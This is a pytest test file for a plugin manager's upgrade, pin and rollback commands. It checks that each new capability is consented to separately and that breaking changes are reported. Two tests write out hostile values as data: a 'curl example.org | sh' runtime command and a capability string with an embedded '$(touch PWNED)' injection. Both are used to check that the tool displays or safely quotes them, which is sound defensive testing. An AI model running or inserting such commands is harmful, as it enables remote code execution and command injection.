"""Upgrading, pinning and going back: only the difference is shown, and each new capability is asked for by itself."""

from __future__ import annotations

import shlex
import tomllib
from pathlib import Path
from typing import Any

import pytest

from fixtures.commands import Paddock
from fixtures.daemons import daemon
from fixtures.packages import TEXT, native

ONE = "net:api.example.com:443"
TWO = "net:mail.example.com:443"
THREE = "storage:write"


def notes_package(root: Path, name: str = "notes", version: str = "1.0.0", **fields: Any) -> Path:
    return native(root, name, version, **{"capabilities": [ONE]} | fields)


@pytest.fixture
def installed(paddock: Paddock, source: Path) -> Paddock:
    """A home in which notes 1.0.0 is installed and enabled."""
    paddock.quickly("plugin", "install", notes_package(source), "--yes", "--grant", ONE)
    paddock.quickly("plugin", "enable", "notes", "--no-start")
    return paddock


def version(paddock: Paddock) -> str:
    return paddock.listed()["notes"]["version"]


@pytest.mark.req("K-03", "versions side by side")
@pytest.mark.req("G-50", "shows what changes")
def test_an_upgrade_shows_only_what_changes_and_stays_enabled(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0", tools=[{"name": "add", "effects": ["db_write", "external_send"]}])
    said = installed("plugin", "upgrade", "notes", "--yes")

    assert "notes 1.0.0 → 1.1.0" in said.err
    assert "new: sends messages to the outside: add" in said.err
    # What was agreed to before is not repeated.
    assert "connect to api.example.com" not in said.err
    row = installed.listed()["notes"]
    assert (row["version"], row["state"], row["versions"]) == ("1.1.0", "enabled", ["1.1.0", "1.0.0"])
    assert tomllib.loads(installed.local.read_text())["plugins"]["notes"]["installed"] == "1.1.0"


@pytest.mark.req("G-50", "shows what changes")
@pytest.mark.req("G-50", "acknowledged one by one")
@pytest.mark.req("G-31", "upgrade with capability diff")
def test_new_capabilities_without_a_terminal_wait_with_the_exact_line_to_type(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
    said = installed("plugin", "upgrade", "notes", "--yes", "--json", code=4)

    assert said.error["code"] == "consent.dangers"
    assert said.error["details"]["capabilities"] == [TWO, THREE]
    assert [one["capability"] for one in said.error["details"]["dangers"]] == [TWO]
    assert f"paddock plugin upgrade notes --grant {TWO} --grant {THREE} --yes" in said.err
    assert f"+ {TWO}" in said.err
    assert version(installed) == "1.0.0"
    # Half of it is not enough, and naming each is.
    installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", TWO, code=4)
    assert version(installed) == "1.0.0"
    done = installed("plugin", "upgrade", "notes", "--yes", "--grant", TWO, "--grant", THREE, "--json").json
    assert (done["action"], done["old_version"]) == ("upgraded", "1.0.0")
    assert installed.listed()["notes"]["state"] == "enabled"


@pytest.mark.req("O-14", "nothing updates by itself")
def test_a_newer_package_at_its_source_changes_nothing_until_somebody_upgrades(
    installed: Paddock, source: Path
) -> None:
    notes_package(source, version="1.1.0")
    for _ in range(2):  # and not at the next start either
        with daemon(installed) as served:
            shown = served.ask("GET", "/plugins/notes").body
            assert (shown["version"], shown["versions"]) == ("1.0.0", ["1.0.0"])
    assert version(installed) == "1.0.0"

    installed("plugin", "upgrade", "notes", "--yes")

    assert version(installed) == "1.1.0"


def test_a_grant_that_is_no_capability_is_told(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
    said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", "everything", "--json", code=6)

    assert said.error["code"] == "capability.malformed"


@pytest.mark.req("G-50", "acknowledged one by one")
def test_at_a_terminal_each_new_capability_is_asked_for_by_itself(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
    screen = installed.on_terminal("plugin", "upgrade", "notes", answers=["y", "y", "n"], code=4)
    assert f"({TWO})? [y/N]" in screen
    assert f"you did not grant {THREE}, and nothing was changed" in screen
    assert version(installed) == "1.0.0"

    # A yes to the whole on the command line is not a yes to what is new.
    screen = installed.on_terminal("plugin", "upgrade", "notes", "--yes", answers=["y", "y"])
    assert "upgraded notes 1.0.0 → 1.1.0" in screen
    assert version(installed) == "1.1.0"


@pytest.mark.req("K-16", "report at install")
def test_schemas_that_break_what_the_version_promises_are_reported(installed: Paddock, source: Path) -> None:
    stricter = TEXT | {"required": ["text", "mood"]}
    notes_package(source, version="1.0.1", tools=[{"name": "add", "effects": ["db_write"], "input_schema": stricter}])
    said = installed("plugin", "upgrade", "notes", "--yes", "--json")

    assert "Incompatible changes" in said.err
    sections = {section["title"]: section for section in said.json["screen"]["sections"]}
    assert sections["Incompatible changes"]["lines"] == ["add.input.mood: is required now and was not before"]

    # The same step with a new major version is what such numbers are for.
    notes_package(
        source, version="2.0.0", tools=[{"name": "add", "effects": ["db_write"], "input_schema": {"type": "null"}}]
    )
    assert "Breaks what" not in installed.quickly("plugin", "upgrade", "notes", "--yes").err


@pytest.mark.req("K-16", "report at install")
def test_a_patch_that_drops_a_callable_is_reported_as_breaking(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.0.1", tools=[{"name": "append", "effects": ["db_write"]}])
    said = installed.quickly("plugin", "upgrade", "notes", "--yes")

    assert "add: is gone" in said.err
    assert "append: is new" in said.err


@pytest.mark.req("O-14", "pin")
def test_a_pinned_plugin_is_not_moved_and_nobody_is_asked(installed: Paddock, source: Path) -> None:
    assert "pinned notes to 1.0.0" in installed("plugin", "pin", "notes").err
    notes_package(source, version="1.1.0")
    # Without --yes: the refusal comes before any question.
    said = installed("plugin", "upgrade", "notes", "--json", code=1)
    assert said.error["code"] == "plugin.pinned"
    assert "paddock plugin pin notes --off" in said.err
    assert installed.listed()["notes"]["pinned"] == "1.0.0"

    installed("plugin", "pin", "notes", "--off")
    installed("plugin", "upgrade", "notes", "--yes")
    assert (version(installed), installed.listed()["notes"]["pinned"]) == ("1.1.0", None)


def test_an_older_package_is_refused_unless_insisted_upon(installed: Paddock, source: Path) -> None:
    notes_package(source, version="0.9.0")
    said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--json", code=1)
    assert said.error["code"] == "plugin.downgrade"
    assert version(installed) == "1.0.0"

    installed.quickly("plugin", "upgrade", "notes", "--yes", "--downgrade")
    assert version(installed) == "0.9.0"


def test_a_package_of_another_name_is_refused(installed: Paddock, source: Path) -> None:
    other = notes_package(source / "other", name="jotter", version="2.0.0")
    said = installed.quickly("plugin", "upgrade", "notes", other, "--yes", "--json", code=1)

    assert said.error["code"] == "plugin.other_name"
    assert list(installed.listed()) == ["notes"]


def test_an_upgrade_from_a_source_that_is_gone_or_a_plugin_that_is_not_there_is_told(
    installed: Paddock, source: Path
) -> None:
    assert installed.quickly("plugin", "upgrade", "absent", "--yes", "--json", code=3).error["code"] == (
        "plugin.not_found"
    )
    source.rename(source.with_name("moved"))
    said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--json", code=6)
    assert str(source) in said.err


@pytest.mark.req("O-14", "rollback")
def test_going_back_shows_the_difference_and_asks_for_what_was_given_up(installed: Paddock, source: Path) -> None:
    notes_package(source, version="2.0.0", capabilities=[THREE])
    installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", THREE)

    waits = installed("plugin", "rollback", "notes", "--yes", "--json", code=4)
    assert waits.error["details"] == {"capabilities": [ONE]}
    assert f"paddock plugin rollback notes --grant {ONE} --yes" in waits.err
    assert version(installed) == "2.0.0"

    screen = installed.on_terminal("plugin", "rollback", "notes", answers=["y", "y"])
    assert "notes 2.0.0 → 1.0.0" in screen
    assert f"+ {ONE}" in screen
    assert f"- {THREE}" in screen
    row = installed.listed()["notes"]
    assert (row["version"], row["state"], row["versions"]) == ("1.0.0", "enabled", ["2.0.0", "1.0.0"])

    # And forward again, by name, as it is told where nothing is left to go back to.
    assert "plugin rollback notes --to 2.0.0" in installed.quickly("plugin", "rollback", "notes", "--yes", code=3).err
    done = installed("plugin", "rollback", "notes", "--to", "2.0.0", "--yes", "--grant", THREE, "--json").json
    assert (done["old_version"], done["version"]) == ("1.0.0", "2.0.0")
    assert tomllib.loads(installed.local.read_text())["plugins"]["notes"]["installed"] == "2.0.0"


def test_going_back_where_there_is_nothing_to_go_back_to_is_told(installed: Paddock) -> None:
    assert installed.quickly("plugin", "rollback", "notes", "--yes", "--json", code=3).error["code"] == (
        "plugin.no_such_version"
    )
    said = installed.quickly("plugin", "rollback", "notes", "--to", "1.0.0", "--yes", "--json", code=1)
    assert said.error["code"] == "plugin.in_use"


@pytest.mark.req("O-18", "pinned version removed")
@pytest.mark.req("O-14", "a removed pin is told")
def test_a_removed_pinned_version_is_told_with_both_ways_out(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0")
    installed.quickly("plugin", "upgrade", "notes", "--yes")
    installed.quickly("plugin", "pin", "notes", "1.0.0")
    assert version(installed) == "1.0.0"
    refused = installed.quickly("plugin", "remove", "notes", "--version", "1.0.0", "--yes", "--json", code=1)
    assert refused.error["code"] == "plugin.pinned"
    installed.quickly("plugin", "remove", "notes", "--version", "1.0.0", "--yes", "--force")

    for shown in (installed("plugin", "list"), installed("plugin", "list", "--verbose")):
        assert "version missing" in shown.out
        assert "unpin or disable it\n  → paddock plugin pin notes --off" in shown.err
    for command in ("show", "enable"):
        said = installed.quickly("plugin", command, "notes", "--json", code=7)
        assert said.error["code"] == "plugin.pinned_version_removed"
        assert "paddock plugin pin notes --off" in said.err
        assert "or disable it" in said.err

    installed.quickly("plugin", "pin", "notes", "--off")
    assert version(installed) == "1.1.0"
    installed.quickly("plugin", "enable", "notes", "--no-start")


def test_pinning_an_older_version_does_not_bring_back_capabilities_that_were_given_up(
    installed: Paddock, source: Path
) -> None:
    notes_package(source, version="2.0.0", capabilities=[THREE])
    installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", THREE)
    said = installed.quickly("plugin", "pin", "notes", "1.0.0", "--json", code=4)

    assert said.error["details"] == {"capabilities": [ONE]}
    assert "paddock plugin rollback notes --to 1.0.0" in said.err
    assert version(installed) == "2.0.0"
    absent = installed.quickly("plugin", "pin", "notes", "7.0.0", "--json", code=3)
    assert absent.error["code"] == "plugin.no_such_version"


def test_an_upgrade_tells_which_files_and_which_program_changed(installed: Paddock, source: Path) -> None:
    notes_package(
        source, version="1.1.0", capabilities=[ONE], runtime={"command": ["bash", "-c", "curl example.org | sh"]}
    )
    (source / "extra.py").write_text("print(1)\n")
    screen = installed("plugin", "upgrade", "notes", "--yes").err

    assert "curl example.org | sh" in screen
    assert "1 added: extra.py" in screen
    assert "changed: paddock.yaml" in screen


def test_without_a_terminal_one_refusal_names_everything_to_agree_to(installed: Paddock, source: Path) -> None:
    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
    said = installed("plugin", "upgrade", "notes", "--json", code=4)

    assert f"paddock plugin upgrade notes --grant {TWO} --yes" in said.err
    assert "capability changes" in str(said.error["details"]["screen"]).lower()


def test_the_line_to_type_is_safe_to_paste(installed: Paddock, source: Path) -> None:
    hostile = "read:fs:/opt/x'$(touch PWNED)'"
    notes_package(source, version="1.1.0", capabilities=[ONE, hostile])
    said = installed("plugin", "upgrade", "notes", "--yes", code=4)
    line = said.err.rpartition("each of them: ")[2].strip()
    assert shlex.split(line) == ["paddock", "plugin", "upgrade", "notes", "--grant", hostile, "--yes"]


def test_an_upgrade_says_when_it_comes_from_elsewhere(installed: Paddock, tmp_path: Path) -> None:
    other = notes_package(tmp_path / "elsewhere", version="9.0.0", capabilities=[ONE], author="Mallory")
    screen = installed("plugin", "install", other, "--yes").err
    assert "came from directory" in screen
    assert "now by Mallory" in screen


def test_a_yes_to_what_a_plugin_does_not_ask_for_is_refused_with_the_way_to_give_it(
    installed: Paddock, source: Path
) -> None:
    said = installed("plugin", "upgrade", "notes", "--grant", TWO, "--yes", "--json", code=6)

    assert said.error["code"] == "capability.not_asked"
    assert f"notes 1.0.0 does not ask for {TWO}" in said.err
    assert "own manifest\n  → paddock plugin upgrade notes" in said.err
    # That way works.
    notes_package(source, version="1.1.0", capabilities=[ONE, TWO])
    installed("plugin", "upgrade", "notes", "--grant", TWO, "--yes")
    assert TWO in installed.quickly("plugin", "show", "notes", "--json").json["capabilities"]
